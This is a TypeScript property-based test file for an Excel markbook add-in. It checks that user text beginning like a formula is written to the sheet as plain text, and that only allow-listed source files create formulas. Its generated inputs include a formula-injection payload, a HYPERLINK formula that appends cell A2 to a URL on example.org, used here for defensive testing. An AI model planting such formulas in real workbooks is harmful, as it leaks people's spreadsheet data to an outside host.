import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellsEdits } from '../../../src/markbook/edits/cellsEdits';
import type { CellEntry, Edit } from '../../../src/markbook/edits/edit';
import { typedEntry } from '../../../src/markbook/edits/typedEntry';
import { keptHeadings, KEPT_TABLE_NAMES as NAMES, type KeptTableName } from '../../../src/markbook/kept/keptTables';
import { newTableEdits } from '../../../src/markbook/keeping/newTableEdits';
import { keptTable } from '../../../src/markbook/keeping/keptTable';
import { tableEdits } from '../../../src/markbook/keeping/tableEdits';
import { sheetOfLines } from '../../../src/markbook/share/sheetOfLines';
import { law } from '../../law';

const SRC = path.join(import.meta.dirname, '../../../src');

/** What makes a formula of what the add-in itself worked out, or found as a formula. Nothing else may. */
const MAKE_FORMULAS = [
  'excel/selfCheck/askOfOwnWrites.ts',
  'markbook/checkMarks/bareFormulas.ts',
  'markbook/edits/foundEntry.ts',
  'markbook/grades/formulaColumn.ts',
  'markbook/import/plan/newRowFormulas.ts',
  'markbook/keeping/keyFormula.ts',
  'markbook/keeping/tableEdits.ts',
  'markbook/newClass/summaryCells.ts',
  'markbook/share/diagnosis/repairEdits.ts',
  'markbook/share/plainFormulas/plainEdits.ts',
  'markbook/tasks/taskTotals.ts',
];

const hostile = fc
  .tuple(
    fc.constantFrom('', ' ', '\t', '\r', "'"),
    fc.constantFrom(
      '=HYPERLINK("https://example.org/?d="&A2,"Pearson")',
      '=1+1',
      '+A1',
      '-A1',
      '@SUM(A1)',
      "'=A1",
      '=',
    ),
  )
  .map((parts) => parts.join(''));

const rowOf = (name: KeptTableName, text: string) =>
  Object.fromEntries(keptHeadings(name).map((heading) => [heading, text]));

const entriesOf = (edits: readonly Edit[]): readonly CellEntry[] =>
  edits.flatMap((edit) => (edit.kind === 'cells' ? edit.after.flat() : []));

/** What Excel is handed, where it would be taken for a formula. */
const calculated = (edits: readonly Edit[], format?: string) =>
  entriesOf(edits)
    .map((entry) => typedEntry(entry, format))
    .filter((typed) => typeof typed === 'string' && /^\s*[=+\-@]/.test(typed));

describe('text that begins like a formula', () => {
  law([fc.constantFrom(...NAMES), hostile, fc.constantFrom('@', 'General')])(
    'stays text in every table the add-in makes',
    (name, text, format) => {
      const edits = newTableEdits(name, [rowOf(name, text)], []);
      expect(entriesOf(edits)).toContain(text);
      expect(calculated(edits, format)).toEqual([]);
    },
  );

  law([hostile, hostile, fc.constantFrom('@', 'General')])(
    'stays text in a table that is there, also where its row moves up or down',
    (held, given, format) => {
      const headings = keptHeadings('BTEC_Moderation');
      const row = (learner: string) => headings.map((heading) => (heading === 'Learner' ? learner : held));
      const cells = [[...headings], row('0101'), row('0102')];
      const snapshot = {
        ...{
          name: 'BTEC Moderation',
          row: 0,
          column: 0,
          formulas: cells,
          values: cells,
          numberFormats: [],
          merges: [],
        },
        tables: [
          { name: 'BTEC_Moderation', hasTotals: false, area: { row: 0, column: 0, rows: 3, columns: headings.length } },
        ],
      };
      const table = keptTable(snapshot as unknown as Parameters<typeof keptTable>[0], 'BTEC_Moderation');
      if (table === undefined) throw new Error('The table is not found.');
      const edits = tableEdits(table, [
        { key: { learner: '0101' }, rows: [] },
        { key: { learner: '0103' }, rows: [rowOf('BTEC_Moderation', given)] },
      ]);
      if (!edits.ok) throw new Error('The edits are refused.');
      expect(entriesOf(edits.value)).toContain(held);
      expect(entriesOf(edits.value)).toContain(given);
      expect(calculated(edits.value, format)).toEqual([]);
    },
  );

  law([hostile])('stays text in single cells and on sheets made to be printed', (text) => {
    const single = cellsEdits([{ sheet: 'Class', row: 1, column: 1, before: '', after: text }]);
    const line = { cells: [text], isBold: false };
    const printed = sheetOfLines({ name: 'Notice', pages: [[line]], widths: [80], figures: [0, 0] });
    expect(entriesOf([...single, ...printed])).toEqual([text, text]);
    expect(calculated([...single, ...printed])).toEqual([]);
  });

  it('can only become a formula where the add-in itself makes one', () => {
    const files = readdirSync(SRC, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.tsx?$/.test(file))
      .map((file) => file.replaceAll(path.sep, '/'));
    const holding = (pattern: RegExp): readonly string[] =>
      files.filter((file) => pattern.test(readFileSync(path.join(SRC, file), 'utf8'))).sort();
    // The trial workbook knows none of the add-in's edits: a conditional format that it opens is of a formula too.
    const makingEntries = holding(/kind: 'formula', formula/).filter((file) => !file.startsWith('trial/xlsx/open/'));
    expect(makingEntries).toEqual(['markbook/edits/formulaEntry.ts']);
    expect(holding(/(?<!by `|const )formulaEntry\(/)).toEqual(MAKE_FORMULAS);
  });
});
